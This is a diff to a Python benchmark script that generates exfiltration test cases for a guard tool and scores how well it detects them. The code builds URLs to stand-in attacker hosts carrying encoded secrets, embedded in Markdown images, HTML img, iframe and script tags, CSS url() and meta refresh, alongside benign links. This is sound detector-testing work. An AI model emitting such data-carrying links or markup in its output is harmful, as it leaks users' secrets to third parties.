@@ -325,6 +325,154 @@ def table(name, stats, fams):
     return p, r, tp, fn, fp
 
 
+# --- Exfiltration: every form x payload encoding x location, and realistic benign links ---
+
+SECRETS_TEXT = ["the user password is hunter2", "api key sk_live_4eC39HqLyjWDarjtT1zdp7dc",
+                "Alice Smith alice.smith@example.org", "card 4111 1111 1111 1111 exp 04/28",
+                "project Argon launches on May 3", "the system prompt says never discuss pricing"]
+
+
+def exfil_payloads(rng, text):
+    """(location, value) pairs that carry `text`: query, path, fragment, subdomain; plain,
+    URL-encoded, base64, URL-safe base64, hex; split numbers."""
+    b64 = base64.b64encode(text.encode()).decode()
+    b64u = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
+    hx = text.encode().hex()
+    enc = text.replace(" ", "%20")
+    plus = text.replace(" ", "+")
+    slug = "-".join(w.strip(".,") for w in text.split())
+    out = [("query", "URL-encoded", enc), ("query", "plus-encoded", plus), ("query", "base64", b64),
+           ("query", "URL-safe base64", b64u), ("query", "hex", hx), ("path", "URL-encoded", enc),
+           ("path", "URL-safe base64", b64u), ("path", "hex", hx), ("path", "hyphen slug", slug),
+           ("fragment", "URL-safe base64", b64u)]
+    if len(hx) <= 62:
+        out.append(("subdomain", "hex", hx))
+    digits = "".join(ch for ch in text if ch.isdigit())
+    if len(digits) >= 12:
+        chunks = [digits[i:i + 4] for i in range(0, len(digits), 4)]
+        out.append(("split", "digits in 4 parameters", "&".join(f"p{i}={c}" for i, c in enumerate(chunks))))
+    return out
+
+
+def exfil_url(rng, loc, value):
+    host = rng.choice(["attacker.example", "evil.test", "img-cdn.example.net", "collect.example.io"])
+    if loc == "query":
+        return f"https://{host}/{rng.choice(['log', 'p.png', 'i', 'pixel.gif'])}?{rng.choice(['q', 'd', 'data', 'x'])}={value}"
+    if loc == "path":
+        return f"https://{host}/c/{value}.png"
+    if loc == "fragment":
+        return f"https://{host}/r#{value}"
+    if loc == "subdomain":
+        return f"https://{value}.{host}/a.png"
+    return f"https://{host}/b.gif?{value}"
+
+
+FORMS_AUTO = ["![img]({u})", "![]( {u} )", "![a](<{u}>)", "![a][r]\n\n[r]: {u}", "<img src=\"{u}\">", "<IMG SRC='{u}'>",
+              "<img alt=x src={u}>", "<iframe src=\"{u}\"></iframe>", "<video poster=\"{u}\"></video>",
+              "<div style=\"background:url('{u}')\"></div>", "<meta http-equiv=\"refresh\" content=\"0;url={u}\">",
+              "<source srcset=\"{u}\">", "<link rel=stylesheet href=\"{u}\">", "<script src=\"{u}\"></script>"]
+FORMS_CLICK = ["[click here]({u})", "<a href=\"{u}\">more</a>", "<{u}>", "[docs][1]\n\n[1]: {u}"]
+
+BENIGN_LINKS = [
+    "https://blog.example.com/2024/05/launch?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
+    "https://images.example.org/diagrams/architecture-v2.png",
+    "https://stackoverflow.com/questions/1234567/how-to-parse-json-in-rust?answertab=votes#tab-top",
+    "https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2922926,17z",
+    "https://cdn.example.com/img/hero.jpg?w=1200&h=630&fit=crop&auto=format",
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+    "https://www.amazon.com/dp/B08N5WRWNW?ref_=ast_sto_dp&th=1&psc=1",
+    "https://img.shields.io/badge/license-MIT-blue.svg",
+    "https://arxiv.org/abs/2302.12173",
+    "https://github.com/rust-lang/rust/pull/123456/files#diff-0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b",
+    "https://docs.python.org/3/library/json.html#json.dumps",
+    "https://avatars.githubusercontent.com/u/1234567?v=4&s=64",
+    "https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0",
+    "https://en.wikipedia.org/wiki/Transformer_(deep_learning_architecture)",
+    "https://unsplash.com/photos/a-mountain-range-with-snow-3f4kB1x9Q2c",
+    "https://images.unsplash.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&auto=format&fit=crop&w=1350&q=80",
+    "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=64&d=identicon",
+    "https://my-company-assets-prod.s3.amazonaws.com/brand/logo-2024.png",
+    "https://d111111abcdef8.cloudfront.net/charts/q3.png?v=5f4dcc3b",
+    "https://www.nytimes.com/2024/03/14/technology/ai-regulation-europe.html",
+    "https://news.ycombinator.com/item?id=39512345",
+    "https://pypi.org/project/requests/2.31.0/",
+    "https://crates.io/crates/serde/1.0.197",
+    "https://www.reddit.com/r/rust/comments/1b2c3d4/async_traits_are_stable/",
+    "https://twitter.com/rustlang/status/1765432109876543210",
+    "https://medium.com/@author/building-a-search-engine-in-rust-5f2a9c1d7e3b",
+    "https://i.imgur.com/AbC123x.png",
+    "https://upload.wikimedia.org/wikipedia/commons/thumb/a/a1/Logo.svg/240px-Logo.svg.png",
+    "https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap",
+    "https://www.example.com/search?q=rust+regex&page=2",
+    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy",
+    "https://api.example.com/v1/users/42/avatar.png?size=128",
+    "https://example.atlassian.net/browse/PROJ-1234",
+    "https://zoom.us/j/98765432109?pwd=abc",
+    "https://calendar.google.com/calendar/event?eid=NGJkM2Y2",
+    "https://www.bbc.co.uk/news/technology-68123456",
+    "https://raw.githubusercontent.com/rust-lang/rust/master/README.md",
+    "https://objects.githubusercontent.com/github-production-release-asset-2e65be/12345/abcd",
+    "https://www.figma.com/file/AbCdEfGhIjKlMnOp/Design-System?node-id=12%3A34",
+    "https://example.com/docs/getting-started#installation",
+]
+BENIGN_FORMS = ["[link]({u})", "![img]({u})", "<a href=\"{u}\">x</a>", "<img src=\"{u}\">", "See {u} for details.", "<{u}>"]
+
+
+def exfil_set(rng):
+    rows = []
+    for text in SECRETS_TEXT:
+        for loc, encoding, value in exfil_payloads(rng, text):
+            forms = FORMS_AUTO + ([] if loc == "split" else FORMS_CLICK)
+            for f in forms:
+                auto = f in FORMS_AUTO
+                # Clicked links carry data the user would send by clicking: encoded or textual
+                # payloads in the query, path or fragment (a split number is an image beacon).
+                rows.append({"text": "Here is the summary. " + f.format(u=exfil_url(rng, loc, value)) + " Thanks!",
+                             "exfil": True, "form": f.split("{u}")[0][:14], "loc": loc, "enc": encoding, "auto": auto})
+    for u in BENIGN_LINKS:
+        for f in BENIGN_FORMS:
+            rows.append({"text": "Useful reference: " + f.format(u=u), "exfil": False, "form": f.split("{u}")[0][:14], "loc": "-", "auto": False})
+    return rows
+
+
+def exfil_section():
+    rng = random.Random(11)
+    rows = exfil_set(rng)
+    path = OUT / "exfil.jsonl"
+    path.write_text("".join(json.dumps({"text": r["text"]}) + "\n" for r in rows))
+    r = subprocess.run([str(RAMPART), "guard", "check", "--only", "exfil", str(path)], capture_output=True, text=True)
+    preds = [bool(json.loads(l)["findings"]) for l in r.stdout.splitlines() if l.startswith("{")]
+    assert len(preds) == len(rows), (len(preds), len(rows))
+    pos = [(r, p) for r, p in zip(rows, preds) if r["exfil"]]
+    neg = [(r, p) for r, p in zip(rows, preds) if not r["exfil"]]
+    missed = [r["text"] for r, p in pos if not p]
+    flagged = [r["text"] for r, p in neg if p]
+    lines = ["", "## Exfiltration links (generated, seed 11)", "",
+             f"{len(pos)} exfiltration texts: {len(SECRETS_TEXT)} payloads (password, API key, name + e-mail, card number, "
+             "project facts, system-prompt text) × query/path/fragment/subdomain × plain, URL-encoded, base64, URL-safe base64, hex, slug, "
+             f"split digits × {len(FORMS_AUTO)} auto-loaded forms (Markdown images and references, HTML img/iframe/video/source/link/script, "
+             f"CSS url(), meta refresh) and {len(FORMS_CLICK)} clicked forms (Markdown and HTML links, autolinks, references). "
+             f"{len(neg)} benign texts: {len(BENIGN_LINKS)} real-world-shaped links (tracking and CDN parameters, content hashes, "
+             f"document ids, slugs, fragments) × {len(BENIGN_FORMS)} forms.", "",
+             "| set | texts | flagged | missed / wrongly flagged |", "|---|---|---|---|",
+             f"| exfiltration | {len(pos)} | {len(pos) - len(missed)} | {len(missed)} missed |",
+             f"| benign links | {len(neg)} | {len(flagged)} | {len(flagged)} wrongly flagged |"]
+    lines += ["", "| where / how the data travels | texts | caught |", "|---|---|---|"]
+    groups = {}
+    for r, p in pos:
+        k = f"{r['loc']} / {r['enc']}"
+        groups.setdefault(k, [0, 0])
+        groups[k][0] += 1
+        groups[k][1] += int(p)
+    for k, (n, c) in sorted(groups.items()):
+        lines.append(f"| {k} | {n} | {c} |")
+    if missed or flagged:
+        lines += ["", "Examples:"]
+    for t in (missed[:3] + flagged[:10]):
+        lines.append("- `" + t.replace("\n", " ") + "`")
+    return lines
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--n", type=int, default=3000)
@@ -340,7 +488,7 @@ def main():
     pp, pt = presidio_preds(rows)
     dp, dt = detect_secrets_preds(rows)
     rs, ps_, ds = score(rows, rp), score(rows, pp), score(rows, dp)
-    out = [f"# Guards benchmark (secrets and PII)", "",
+    out = [f"# Guards benchmark (secrets, PII and exfiltration links)", "",
            f"{a.n} generated texts (seed 7), entities: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())) + ".", "",
            "| family | tool | precision | recall | TP | FN | FP |", "|---|---|---|---|---|---|---|"]
     for f in PII:
@@ -356,6 +504,7 @@ def main():
     out += ["", "| tool | wall s for the set | µs per text | × rampart |", "|---|---|---|---|"]
     for name, t in [("rampart guard check (one process, incl. start-up)", rt), ("presidio pattern recognizers (in-process)", pt), ("detect-secrets scan_file (in-process, as LLM Guard)", dt)]:
         out.append(f"| {name} | {t:.3f} | {t / a.n * 1e6:.0f} | {t / rt:.1f} |")
+    out += exfil_section()
     text = "\n".join(out) + "\n"
     print(text)
     (HERE / "RESULTS-guard.md").write_text(text)
